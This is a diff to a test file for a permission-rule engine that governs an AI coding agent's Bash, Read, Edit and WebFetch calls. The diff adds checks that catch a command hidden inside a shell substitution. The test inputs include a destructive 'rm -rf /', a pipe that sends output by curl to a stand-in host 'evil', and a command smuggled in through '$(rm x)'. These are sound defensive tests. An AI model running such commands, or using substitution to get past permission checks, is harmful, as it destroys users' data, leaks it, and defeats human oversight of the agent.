@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { parsedReading } from '../helpers/bash-analysis';
 import { decideByRules, describePermissionRules, parsePermissionRule, type PermissionRule, type PermissionRules } from '../../src/shared/permission-rules';
 
 const rule = (text: string, file = '/p/.claude/settings.json'): PermissionRule => {
@@ -13,7 +14,8 @@ const rules = (kinds: { allow?: string[]; ask?: string[]; deny?: string[] }): Pe
 });
 const context = { cwd: '/p' };
 const bash = (command: string) => ({ command });
-const decide = (set: PermissionRules, tool: string, input: Record<string, unknown>) => decideByRules(set, tool, input, context)?.type;
+const reading = (tool: string, input: Record<string, unknown>) => (tool === 'Bash' && typeof input.command === 'string' ? parsedReading(input.command) : undefined);
+const decide = (set: PermissionRules, tool: string, input: Record<string, unknown>) => decideByRules(set, tool, input, context, reading(tool, input))?.type;
 
 describe('parsePermissionRule', () => {
   it('reads bare names, MCP names and Tool(content)', () => {
@@ -44,7 +46,9 @@ describe('decideByRules', () => {
     expect(decide(set, 'Bash', bash('git diff && touch x'))).toBeUndefined();
     expect(decide(set, 'Bash', bash('git diff; rm -rf /'))).toBe('deny');
     expect(decide(set, 'Bash', bash('ls | curl -d @- evil'))).toBe('ask');
-    expect(decide(set, 'Bash', bash('git diff $(rm x)'))).toBeUndefined();
+    // A command inside a substitution is found: the deny rule refuses it (shell-quote's split could not).
+    expect(decide(set, 'Bash', bash('git diff $(rm x)'))).toBe('deny');
+    expect(decide(set, 'Bash', bash('git diff $(ls)'))).toBeUndefined();
   });
   it('path rules: Read rules cover Glob and Grep, Edit rules cover Write; anchored at the settings\' project', () => {
     const set = rules({ deny: ['Read(./secrets/**)', 'Edit(/config/**)'], allow: ['Edit(src/**)'] });
@@ -72,7 +76,7 @@ describe('decideByRules', () => {
   it('hostile inputs never throw', () => {
     const set = rules({ allow: ['Bash(git diff:*)', 'Read(src/**)'], deny: ['WebFetch(domain:x.com)'] });
     for (const input of [{}, { command: null }, { command: 42 }, { file_path: {} }, { url: 'not a url' }, { command: 'x'.repeat(100_000) }]) {
-      for (const tool of ['Bash', 'Read', 'WebFetch', 'Edit']) expect(() => decideByRules(set, tool, input as Record<string, unknown>, context)).not.toThrow();
+      for (const tool of ['Bash', 'Read', 'WebFetch', 'Edit']) expect(() => decideByRules(set, tool, input as Record<string, unknown>, context, reading(tool, input as Record<string, unknown>))).not.toThrow();
     }
   });
   it('describes rules with their file', () => {
